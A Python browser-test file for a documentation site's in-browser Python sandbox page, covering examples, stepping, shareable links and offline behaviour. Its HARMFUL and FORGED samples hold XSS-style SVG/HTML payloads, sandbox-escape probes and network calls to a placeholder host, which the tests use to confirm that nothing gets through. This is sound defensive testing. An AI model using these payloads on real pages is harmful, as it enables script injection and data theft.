"""The page Ask in Chromium: every example, mistakes, steps, links, Stop, programs that mean harm, no network, no scripts."""

from http.server import BaseHTTPRequestHandler

import pytest

from docs.hooks.ask.examples import EXAMPLES
from docs.hooks.ask.fetch import COMMAND, present
from docs.hooks.page.words import words_in

pytestmark = pytest.mark.skipif(not present(), reason=f"Python for the browser is not here: {COMMAND}")
LANGUAGES = ("zh", "en")
WAIT = 240_000  # ms: the machine may be busy with other tests
READY = ".ask:not([aria-busy])"
# A program that answers for itself, with a picture that would run a script and load from elsewhere if it were taken as it is.
FORGED = """import js, json
from pyodide.ffi import to_js
picture = {"svg": "<svg xmlns='http://www.w3.org/2000/svg' width='9' onload='document.body.id=\\"hurt\\"'><script>document.body.id='hurt'</script>"
           "<foreignObject><b id='hurt'/></foreignObject><image href='ADDRESS/hurt'/><rect fill='url(ADDRESS/hurt)' style='x'/><a href='ADDRESS'/></svg>",
           "title": "<b id=hurt>", "said": "<b id=hurt>x</b>"}
answer = {"said": "<img src=ADDRESS/hurt id=hurt>", "levels": [], "places": ["<b id=hurt>"], "picture": picture,
          "rows": [{"id": "javascript:", "title": "<b id=hurt>", "verdict": "x"}]}
for number in range(300):
    js.postMessage(to_js({"id": number, "answer": json.dumps(answer)}, dict_converter=js.Object.fromEntries))
a = b = []
"""
# Programs that look for the page, its storage and the network, each with what it must say.
HARMFUL = {
    "import js\na = js.document.title\nb = a": "AttributeError: document",
    "import js\na = js.localStorage\nb = a": "AttributeError: localStorage",
    "import js\na = js.parent\nb = a": "AttributeError: parent",
    "from pyodide.code import run_js\na = run_js('fetch(\"/\")')\nb = a": "Content Security Policy",
    "import js\na = js.indexedDB.open('x')\nb = a": "denied",
    "import js\na = js.importScripts(js.Object.new and 'https://alias-or-copy.example/x.js')\nb = a": "importScripts",
    "import js\na = b = [js.fetch('ADDRESS/hurt'), js.WebSocket]": "",
    "import js\na = b = js.XMLHttpRequest.new()\na.open('GET', 'ADDRESS/hurt', False)\na.send()": "Exception",
    "a = []\nwhile True:\n    a.append(bytearray(50_000_000))\nb = a": "",  # Python's MemoryError or the end of its time
    "import js\na = b = [js.EventSource.new('ADDRESS/hurt'), js.WebSocket.new('ADDRESS/hurt'.replace('http', 'ws'))]": "",
    "import js\na = b = js.Worker.new('ADDRESS/hurt')": "",
    "import js\na = js.self.caches\nb = a.open('x')\nimport asyncio": "",
    FORGED: "",
    "import js, sys\na = []\nb = a\njs.postMessage('<b id=hurt>x</b>')\nsys.modules.clear()": "",
}


class Asked:
    """The page in one language, with what a reader does there."""

    def __init__(self, page):
        self.page, self.requests = page, []
        # less what the theme fetches for itself: its search, once the browser has nothing else to do
        page.on("request", lambda request: "/javascripts/theme/" in request.url or self.requests.append(request.url))

    def run(self, code: str | None = None, button: str = "run", names: tuple = ("", "")) -> str:
        """Write a program, press a button, wait, and return what the page says."""
        if code is not None:
            self.page.fill("[name=code]", code)
            self.page.fill("[name=first]", names[0])
            self.page.fill("[name=second]", names[1])
        self.page.click(f".ask [name={button}]")
        self.page.wait_for_selector(READY, timeout=WAIT)
        return self.page.inner_text(".ask [role=status]")

    @property
    def answer(self) -> str:
        """The text below the buttons."""
        return self.page.inner_text(".ask__answer")


@pytest.fixture(scope="module", params=LANGUAGES)
def asked(browser, address, request):
    """The page, Python loaded by the first of its tests."""
    width, scheme = {"zh": (360, "dark"), "en": (1280, "light")}[request.param]
    context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme, locale=request.param)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    faults = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(f"{address}/{request.param}/ask/", wait_until="networkidle")
    found = Asked(page)
    found.language = request.param
    yield found
    context.close()
    assert not faults


def test_each_example_has_its_verdict(asked, site):
    """Nothing is fetched before the first click; then at most 7 MB, from this site, once."""
    assert not asked.requests
    words = words_in(asked.language)
    for number, (verdict, code) in enumerate(EXAMPLES.items()):
        asked.page.locator(".ask__examples button").nth(number).click()
        assert asked.page.input_value("[name=code]") == code
        said = asked.run()
        if verdict == "error":
            assert "TypeError: cannot pickle 'generator' object" in said
            continue
        assert said.startswith(words("atlas.verdicts", verdict)), said
        assert asked.page.locator(".ask__answer figure.heap svg").count() == 1
    fetched = [url for url in asked.requests if not url.startswith("blob:") and "favicon" not in url]
    live = [url for url in fetched if "/assets/live/" in url]
    assert live and len(fetched) == len(set(fetched))
    assert [url for url in fetched if url not in live] == [url for url in fetched if url.endswith(f"/{asked.language}/messages/")]  # the index, after a mistake
    assert sum((site / url.split("/", 3)[3]).stat().st_size for url in live) < 7_000_000


def test_an_answer_has_printed_lines_levels_places_a_picture_and_rows(asked):
    asked.run("a = [1, [2]]\nb = a[:]\nprint('<i>printed</i>')")
    page = asked.page
    assert page.inner_text(".ask__answer .output").strip() == "<i>printed</i>"
    assert page.locator(".ask__table tbody tr").count() == 4 and "a[1]" in asked.answer
    link = page.locator(".ask__answer a[href$='#py-list-slice']")
    assert link.count() == 1 and page.request.get(link.evaluate("each => each.href")).ok
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")


@pytest.mark.parametrize("code, names, verdict", [
    ("b = a = {1: [2]}\nc = dict(a)", ("a", "c"), "shallow"),
    ("rows = [[0]] * 2", ("rows[0]", "rows[1]"), "same"),
    ("a = [1, 2]\nb = list(map(id, a))", ("", ""), "copy"),
    ("class Box:\n    pass\nx = Box()\nx.held = []\ny = Box()\ny.__dict__.update(x.__dict__)", ("x", "y"), "shallow"),
])
def test_other_names_and_expressions(asked, code, names, verdict):
    assert asked.run(code, names=names).startswith(words_in(asked.language)("atlas.verdicts", verdict))


def test_a_mistake_is_told_with_its_line_which_is_selected(asked):
    assert "2" in asked.run("a = [1]\nb = a.copyy()") and "AttributeError: 'list' object has no attribute 'copyy'" in asked.answer
    assert asked.page.evaluate("(each => each.value.slice(each.selectionStart, each.selectionEnd))(document.activeElement)") == "b = a.copyy()"


def test_step_through(asked):
    said = asked.run("a = [1]\nb = a\nb.append(2)\nprint(a)", "step")
    assert "4" in said
    page = asked.page
    shown = ".ask__answer .stepper__step[data-current]"
    assert page.inner_text(f"{shown} mark") == "a = [1]"
    page.focus(".ask__answer .stepper")
    page.keyboard.press("End")
    assert page.inner_text(f"{shown} mark") == "print(a)" and page.inner_text(f"{shown} .output").strip() == "[1, 2]"
    page.keyboard.press("ArrowLeft")
    assert page.inner_text(f"{shown} mark") == "b.append(2)" and "2" in page.inner_text(f"{shown} figure")


def test_steps_are_bounded(asked):
    assert words_in(asked.language)("ask.ended", "steps") in asked.run("a = []\nwhile True:\n    a.append(1)\n    b = a", "step")
    assert asked.page.locator(".ask__answer .stepper__step").count() == 200


def test_an_endless_program_is_stopped(asked):
    page = asked.page
    page.fill("[name=code]", "a = b = []\nwhile True: pass")
    page.focus("[name=code]")
    page.keyboard.press("Control+Enter")
    page.wait_for_selector(".ask [name=stop]:enabled")
    page.click("[name=stop]")
    page.wait_for_selector(READY)
    assert page.inner_text(".ask [role=status]") == words_in(asked.language)("ask_page.stopped")
    assert asked.run("a = 1, [2]\nb = a").startswith(words_in(asked.language)("atlas.verdicts", "same"))


def test_code_for_pytorch_gets_its_command(asked):
    asked.run("import torch\na = torch.tensor([1, 2])\nb = a['x':]")
    assert asked.page.inner_text(".ask__command") == """python alias_or_copy.pyz 'import torch' 'a = torch.tensor([1, 2])' 'b = a['\\''x'\\'':]'"""
    assert asked.page.locator(".ask__answer a[href$='#torch-slice']").count() == 1


def test_a_link_carries_the_program(asked, address):
    page, code = asked.page, "x = {'键': [1]}\ny = x | {}"
    page.fill("[name=code]", code)
    page.fill("[name=first]", "x")
    page.fill("[name=second]", "y")
    page.click("[name=link]")
    page.wait_for_function("location.hash.startsWith('#ask=')")
    link = page.evaluate("navigator.clipboard.readText()")
    other = page.context.new_page()
    sent = []
    other.on("request", lambda request: sent.append(request.url))
    other.goto(link, wait_until="networkidle")
    assert [other.input_value(f"[name={name}]") for name in ("code", "first", "second")] == [code, "x", "y"]
    assert other.inner_text(".ask__answer") == "" and not [url for url in sent if "/assets/live/" in url]
    for broken in ("#ask=AAAA", "#ask=x"):
        other.goto(link.split("#")[0] + broken)
        other.wait_for_function("said => document.querySelector('.ask [role=status]').textContent === said",
                                arg=words_in(asked.language)("ask_page.bad_link"))
    other.close()


@pytest.mark.parametrize("code", HARMFUL, ids=lambda code: code.splitlines()[-2][:30])
def test_a_program_that_means_harm_reaches_nothing(asked, code, address, monkeypatch):
    """What arrives at the server counts: a request that the browser refuses is no request."""
    if asked.language == "zh":
        pytest.skip("the sandbox is the same in both languages")
    arrived = []
    parse = BaseHTTPRequestHandler.parse_request
    monkeypatch.setattr(BaseHTTPRequestHandler, "parse_request", lambda self: parse(self) and not arrived.append(self.path))
    said = asked.run(code.replace("ADDRESS", address))
    assert HARMFUL[code] in said, said
    asked.run("a = 1, [2]\nb = a")
    asked.page.evaluate("fetch('/seen.txt')")
    assert [path for path in arrived if "/assets/live/" not in path and not path.endswith("/messages/")] == ["/seen.txt"]
    assert asked.page.locator("#hurt").count() == 0


def test_a_program_that_ends_its_worker_is_stopped(asked):
    """No answer comes from it: the page ends it after its time, and the next program gets another one."""
    if asked.language == "zh":
        pytest.skip("the sandbox is the same in both languages")
    assert asked.run("import js\njs.close()\na = b = []\nwhile True: pass") != words_in("en")("ask_page.running")
    assert asked.run("a = 1, [2]\nb = a").startswith(words_in(asked.language)("atlas.verdicts", "same"))


def test_paper_has_the_program_as_code(asked):
    page = asked.page
    asked.run("\n".join(f"a{i} = [{i}]" for i in range(40)) + "\na = []\nb = a")
    page.emulate_media(media="print")
    assert page.is_hidden(".ask__buttons") and page.is_hidden(".ask__examples") and page.is_visible(".ask__answer")
    assert page.evaluate("(each => each.scrollHeight <= each.clientHeight + 2)(document.querySelector('.ask textarea'))")
    page.emulate_media(media="screen")


def test_without_the_network_it_says_so(browser, address):
    context = browser.new_context()
    page = context.new_page()
    page.goto(address + "/en/ask/")
    page.route("**/assets/live/**", lambda route: route.abort())
    page.click(".ask [name=run]")
    page.wait_for_function("said => document.querySelector('.ask [role=status]').textContent === said", arg=words_in("en")("ask_page.no_network"))
    context.close()


def test_without_scripts_the_page_says_what_else_there_is(open_page):
    page = open_page("/zh/ask/", java_script_enabled=False)
    assert page.is_hidden(".ask") and page.is_visible(".ask__without")
